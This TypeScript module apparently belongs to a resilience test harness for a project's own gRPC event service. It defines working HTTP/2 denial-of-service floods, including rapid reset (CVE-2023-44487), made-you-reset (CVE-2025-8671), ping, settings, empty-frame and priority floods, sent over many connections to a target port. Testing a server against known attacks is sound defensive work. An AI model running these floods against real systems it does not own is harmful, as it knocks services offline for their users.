import { systemClock } from '../../../../src/domain/clock.ts';
import type { Attack, Target } from '../attack.ts';
import { KINDS } from '../attack.ts';
import { FLAG, frame, grpcHead, NO_BYTES, number32, settings, TYPE } from '../frames.ts';
import { openLine } from '../line.ts';
import type { Tally } from '../tally.ts';

/** Frames that cost their sender nothing. Who is cut off comes again, up to a bound. */
interface Flood {
  readonly total: number;
  readonly deaf?: boolean;
  /** Written first on each connection. */
  readonly opening?: Buffer;
  /** Units of the flood: so many, from this one on, of this connection. */
  units(from: number, count: number): Buffer;
}

const CONNECTIONS_AT_ONCE = 4;
const CONNECTIONS_MAX = 40;
const BATCH = 100;
const PUBLISH = grpcHead('/carillon.v1.EventService/Publish');
const BIG = 100_000;

async function flood({ port, until }: Target, tally: Tally, what: Flood): Promise<void> {
  const { total, opening = NO_BYTES, deaf = false } = what;
  const attack = async (): Promise<void> => {
    while (tally.sent < total && tally.connections < CONNECTIONS_MAX && systemClock.monotonic() < until) {
      const line = await openLine({ port, tally, http2: [], deaf });
      await line.write(opening);
      for (let from = 0; tally.sent < total && systemClock.monotonic() < until; from += BATCH) {
        tally.sent += BATCH;
        if (!(await line.write(what.units(from, BATCH)))) break;
      }
      line.hear();
      await line.settle();
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS_AT_ONCE }, attack));
}

/** The number of the n-th stream of a caller. */
function streamOf(n: number): number {
  return 2 * n + 1;
}

function repeated(unit: Buffer): Flood['units'] {
  return (_from, count) => Buffer.concat(Array.from({ length: count }, () => unit));
}

function perStream(unit: (stream: number) => Buffer): Flood['units'] {
  return (from, count) => Buffer.concat(Array.from({ length: count }, (_, i) => unit(streamOf(from + i))));
}

function attack(name: string, what: string, given: Omit<Flood, 'total'>): Attack {
  return {
    name,
    what: `${what} (${BIG.toLocaleString('en')})`,
    kinds: KINDS,
    run: (target, tally) => flood(target, tally, { ...given, total: BIG }),
  };
}

const OPEN_CALL = frame(TYPE.headers, FLAG.endHeaders, 1, PUBLISH);

export const floods: readonly Attack[] = [
  attack('rapid-reset', 'rapid reset: a call, reset at once (CVE-2023-44487)', {
    units: perStream((stream) =>
      Buffer.concat([
        frame(TYPE.headers, FLAG.endHeaders, stream, PUBLISH),
        frame(TYPE.reset, 0, stream, number32(8)),
      ]),
    ),
  }),
  attack('made-you-reset', 'calls that the server must reset itself (CVE-2025-8671)', {
    units: perStream((stream) =>
      Buffer.concat([
        frame(TYPE.headers, FLAG.endHeaders, stream, PUBLISH),
        frame(TYPE.windowUpdate, 0, stream, number32(0)),
      ]),
    ),
  }),
  attack('ping-flood', 'pings whose answers are not read (CVE-2019-9512)', {
    deaf: true,
    units: repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  }),
  attack('settings-flood', 'settings whose answers are not read (CVE-2019-9515)', {
    deaf: true,
    units: repeated(settings()),
  }),
  attack('ping-chat', 'pings whose answers are read', {
    units: repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  }),
  attack('settings-chat', 'settings whose answers are read', { units: repeated(settings()) }),
  attack('empty-frames', 'frames of data without data (CVE-2019-9518)', {
    opening: OPEN_CALL,
    units: repeated(frame(TYPE.data, 0, 1)),
  }),
  attack('window-updates', 'window updates by one byte', {
    units: repeated(frame(TYPE.windowUpdate, 0, 0, number32(1))),
  }),
  attack('priorities', 'priorities of streams that are not there (CVE-2019-9513)', {
    units: perStream((stream) => frame(TYPE.priority, 0, stream, Buffer.concat([number32(0), Buffer.of(1)]))),
  }),
  attack('unknown-methods', 'calls of a method that there is not', {
    units: perStream((stream) =>
      frame(
        TYPE.headers,
        FLAG.endHeaders | FLAG.endStream,
        stream,
        grpcHead('/carillon.v1.EventService/NoSuch'),
      ),
    ),
  }),
];
